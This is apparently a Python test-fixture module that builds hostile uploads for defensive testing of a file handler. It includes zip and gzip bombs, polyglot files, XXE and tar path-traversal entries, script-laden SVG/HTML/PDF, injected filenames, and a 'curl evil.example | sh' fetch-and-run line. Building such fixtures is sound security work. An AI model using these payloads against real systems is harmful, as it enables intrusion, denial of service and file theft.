"""Files of people who mean harm, and of people who mean nothing by it; all made here."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from functools import cache
from typing import NamedTuple

from PIL import ExifTags, Image, PngImagePlugin

from tests.factories import PDF, make_image

SECRET = b"N 50.8467 E 4.3525 secret"  # must not be found in what is stored of an image
SCRIPT = b"<script>alert(document.domain)</script>"
PNG_BEGINNING = b"\x89PNG\r\n\x1a\n"


class Hostile(NamedTuple):
    """refusal: a word of the sentence; empty where it is stored, as `stored_as`."""

    name: str
    content: bytes
    refusal: str = ""
    stored_as: str = ""


def zipped(name: str = "invoice.pdf", content: bytes = PDF, times: int = 1) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(times):
            archive.writestr(f"{number}-{name}", content)
    return buffer.getvalue()


def tarred() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/passwd"))
    return buffer.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    """A part of a PNG."""
    check = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)


@cache
def png_of_zeros(side: int) -> bytes:
    """A grey PNG of that many pixels in each direction, which are all there."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    line = bytes(side + 1)
    pixels = b"".join(packer.compress(line) for _i in range(side)) + packer.flush()
    return PNG_BEGINNING + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def png_that_says(width: int, height: int) -> bytes:
    """A PNG that claims a size and has nothing behind it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return PNG_BEGINNING + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def png_with_text(packed: bool = False) -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", (SECRET + SCRIPT).decode(), zip=packed)
    return make_image("PNG", pnginfo=text)


def png_with_a_text_bomb() -> bytes:
    """Text that unpacks to more than any text needs."""
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(80_000_000), 9))
    image = make_image("PNG")
    return image[:33] + bomb + image[33:]


def exif() -> Image.Exif:
    """Where and with what a picture was taken."""
    made = Image.Exif()
    made[ExifTags.Base.Make] = SECRET.decode()
    made[ExifTags.Base.ImageDescription] = SCRIPT.decode()
    position = made.get_ifd(ExifTags.IFD.GPSInfo)
    position[ExifTags.GPS.GPSLatitudeRef] = "N"
    position[ExifTags.GPS.GPSLatitude] = (50.0, 50.0, 48.0)
    return made


def cut(content: bytes, part: float = 0.5) -> bytes:
    return content[: int(len(content) * part)]


def noise(kind: str) -> bytes:
    """An image that cannot be packed well, so that half of it is a half."""
    buffer = io.BytesIO()
    Image.effect_noise((200, 200), 90).convert("RGB").save(buffer, kind)
    return buffer.getvalue()


def mail(body: bytes, kind: bytes = b"text/html", extra: bytes = b"") -> bytes:
    return (
        b"From: Telenet <no-reply@telenet.example>\r\nTo: alice@example.org\r\n"
        b"Subject: Confirmation\r\nDate: Tue, 3 Mar 2026 10:00:00 +0100\r\n"
        + extra
        + b"Content-Type: "
        + kind
        + b"\r\n\r\n"
        + body
    )


PDF_THAT_RUNS = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('x'))>>>>endobj\n"
    b"2 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PAGES, ARCHIVE, UNKNOWN = "Print it as a PDF", "Take the files out", "whatever its name says"
DAMAGED, TOO_BIG = "damaged or not complete", "50 million pixels"
PDF_TYPE, JPEG_TYPE, PNG_TYPE = "application/pdf", "image/jpeg", "image/png"
EML_TYPE, TXT_TYPE = "message/rfc822", "text/plain"

FILES = {
    # More than one thing at once
    "GIF that is a script": Hostile("a.gif", b"GIF89a/*" + b"\0" * 9 + b"*/=alert(1)", UNKNOWN),
    "JPEG that is a page, in its comment": Hostile(
        "a.jpg", make_image(comment=SECRET + PAGE), stored_as=JPEG_TYPE
    ),
    "JPEG with a page behind it": Hostile(
        "a.html", make_image() + SECRET + PAGE, stored_as=JPEG_TYPE
    ),
    "JPEG with an archive behind it": Hostile(
        "a.zip", make_image() + SECRET + zipped(), stored_as=JPEG_TYPE
    ),
    "PNG with an archive behind it": Hostile(
        "a.png", make_image("PNG") + SECRET + zipped(), stored_as=PNG_TYPE
    ),
    "PDF with an archive behind it": Hostile("a.pdf", PDF + zipped(), stored_as=PDF_TYPE),
    "archive with a PDF in it": Hostile("a.pdf", zipped(content=PDF_THAT_RUNS), ARCHIVE),
    "PDF that begins later": Hostile("a.pdf", b"\0" * 9 + PDF, UNKNOWN),
    "page that begins as a PDF": Hostile("a.pdf", b"%PDF-1.4\n" + PAGE, PAGES),
    "script that begins as a bitmap": Hostile("a.bmp", b"BM=1;/*" + b"\0" * 60 + SCRIPT, PAGES),
    # Pages and drawings
    "HTML as PDF": Hostile("confirmation.pdf", PAGE, PAGES),
    "HTML as JPEG": Hostile("photo.jpg", PAGE, PAGES),
    "HTML as text": Hostile("note.txt", b"Confirmed " + SCRIPT, PAGES),
    "HTML after a mark": Hostile("a.txt", b"\xef\xbb\xbf  <html>", PAGES),
    "HTML in UTF-16": Hostile("a.txt", PAGE.decode().encode("utf-16"), UNKNOWN),
    "SVG with a script": Hostile("logo.svg", SVG, PAGES),
    "SVG as PNG": Hostile("logo.png", b'<?xml version="1.0"?>' + SVG, PAGES),
    "XML with an entity": Hostile(
        "a.xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', PAGES
    ),
    "shell script": Hostile("a.txt", b"#!/bin/sh\ncurl evil.example | sh\n", PAGES),
    # Archives and programs
    "zip bomb": Hostile("bills.zip", zipped("bill.txt", bytes(10_000_000)), ARCHIVE),
    "zip bomb as PDF": Hostile("bills.pdf", zipped("b.txt", bytes(1_000_000), 20), ARCHIVE),
    "gzip bomb": Hostile("bill.pdf.gz", gzip.compress(bytes(10_000_000)), ARCHIVE),
    "tar that climbs": Hostile("bills.tar", tarred(), ARCHIVE),
    "Word document": Hostile("letter.docx", zipped("word/vbaProject.bin"), ARCHIVE),
    "program of Windows": Hostile("invoice.pdf.exe", b"MZ\x90\0\x03" + bytes(80), UNKNOWN),
    "program of Linux": Hostile("invoice.pdf", b"\x7fELF\x02\x01\x01" + bytes(80), UNKNOWN),
    # Images that are too much
    "PNG of 20,000 x 20,000 pixels": Hostile("photo.png", png_of_zeros(20_000), TOO_BIG),
    "PNG of 8,000 x 8,000 pixels": Hostile("photo.png", png_of_zeros(8_000), TOO_BIG),
    "PNG that says it is endless": Hostile("p.png", png_that_says(2**31 - 1, 2**31 - 1), TOO_BIG),
    "PNG with a text bomb": Hostile("photo.png", png_with_a_text_bomb(), DAMAGED),
    "PNG without a picture": Hostile("photo.png", png_that_says(10, 10), DAMAGED),
    # Images that say too much
    "JPEG with a position": Hostile("a.jpg", make_image(exif=exif()), stored_as=JPEG_TYPE),
    "PNG with a position": Hostile("a.png", make_image("PNG", exif=exif()), stored_as=PNG_TYPE),
    "HEIC with a position": Hostile("a.heic", make_image("HEIF", exif=exif()), stored_as=JPEG_TYPE),
    "WebP with a position": Hostile("a.webp", make_image("WEBP", exif=exif()), stored_as=JPEG_TYPE),
    "PNG with text": Hostile("a.png", png_with_text(), stored_as=PNG_TYPE),
    "PNG with packed text": Hostile("a.png", png_with_text(packed=True), stored_as=PNG_TYPE),
    "JPEG with a profile": Hostile("a.jpg", make_image(icc_profile=SECRET), stored_as=JPEG_TYPE),
    "JPEG with nonsense as EXIF": Hostile(
        "a.jpg", make_image(exif=b"Exif\0\0" + SECRET), stored_as=JPEG_TYPE
    ),
    # Names
    "name that climbs": Hostile("../../../etc/cron.d/x.pdf", PDF, stored_as=PDF_TYPE),
    "name that climbs in Windows": Hostile("..\\..\\win.ini", b"text", stored_as=TXT_TYPE),
    "name with a NUL": Hostile("confirmation.pdf\0.exe", PDF, stored_as=PDF_TYPE),
    "name that turns around": Hostile("bill\u202efdp.exe", PDF, stored_as=PDF_TYPE),
    "name of 300 characters": Hostile("x" * 300 + ".pdf", PDF, stored_as=PDF_TYPE),
    "name that is a header": Hostile('a.pdf"\r\nX-Evil: 1', PDF, stored_as=PDF_TYPE),
    "name that is a page": Hostile("<img src=x onerror=alert(1)>.pdf", PDF, stored_as=PDF_TYPE),
    "name of a device": Hostile("NUL.pdf", PDF, stored_as=PDF_TYPE),
    "name of nothing": Hostile(".pdf", PDF, stored_as=PDF_TYPE),
    # Halves
    "nothing": Hostile("confirmation.pdf", b"", "empty"),
    "half a JPEG": Hostile("a.jpg", cut(noise("JPEG")), DAMAGED),
    "half a PNG": Hostile("a.png", cut(noise("PNG")), DAMAGED),
    "half a WebP": Hostile("a.webp", cut(noise("WEBP")), DAMAGED),
    "half a HEIC": Hostile("a.heic", cut(noise("HEIF")), DAMAGED),
    "half a PDF": Hostile("a.pdf", cut(PDF), stored_as=PDF_TYPE),
    "first bytes of a JPEG": Hostile("a.jpg", make_image()[:20], DAMAGED),
    "JPEG with holes": Hostile("a.jpg", make_image()[:200] + bytes(50), DAMAGED),
    # What runs elsewhere, and not here
    "PDF with JavaScript": Hostile("a.pdf", PDF_THAT_RUNS, stored_as=PDF_TYPE),
    "mail with a script": Hostile("a.eml", mail(PAGE), stored_as=EML_TYPE),
    "mail with a drawing": Hostile("a.eml", mail(SVG, b"image/svg+xml"), stored_as=EML_TYPE),
    "mail with endless headers": Hostile(
        "a.eml", mail(b"Hi", extra=b"X-Y: z\r\n" * 100_000), stored_as=EML_TYPE
    ),
    "test virus, where no scanner is": Hostile("a.txt", EICAR, stored_as=TXT_TYPE),
}
